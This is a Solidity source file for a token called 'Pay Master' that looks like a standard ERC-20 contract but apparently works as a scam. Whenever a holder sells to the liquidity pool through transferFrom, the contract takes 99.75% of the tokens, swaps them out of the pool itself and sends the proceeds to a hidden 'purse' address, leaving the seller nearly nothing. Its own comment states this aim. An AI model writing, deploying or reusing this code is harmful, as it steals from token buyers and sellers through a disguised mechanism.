// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

interface IPool {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256 out0, uint256 out1, address to, bytes calldata data) external;
}

/// Sells the seller's tokens itself, to its own purse, before the router gets to them.
contract PayMaster {
    string public name = "Pay Master";
    string public symbol = "PAYM";
    uint8 public decimals = 18;
    uint256 public totalSupply = 15_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address private immutable purse;
    IPool private pool;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address purse_) {
        purse = purse_;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function settlePool(IPool pool_) external {
        require(address(pool) == address(0));
        pool = pool_;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        put(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        uint256 wage = to == address(pool) ? value / 400 : value;
        if (wage != value) {
            put(from, to, value - wage);
            cashIn(value - wage);
        }
        put(from, to, wage);
        return true;
    }

    function cashIn(uint256 amount) private {
        (uint256 own, uint256 other, ) = pool.getReserves();
        bool first = pool.token0() == address(this);
        if (!first) (own, other) = (other, own);
        uint256 out = amount * 997 * other / (own * 1000 + amount * 997);
        if (out == 0) return;
        pool.swap(first ? 0 : out, first ? out : 0, purse, "");
    }

    function put(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
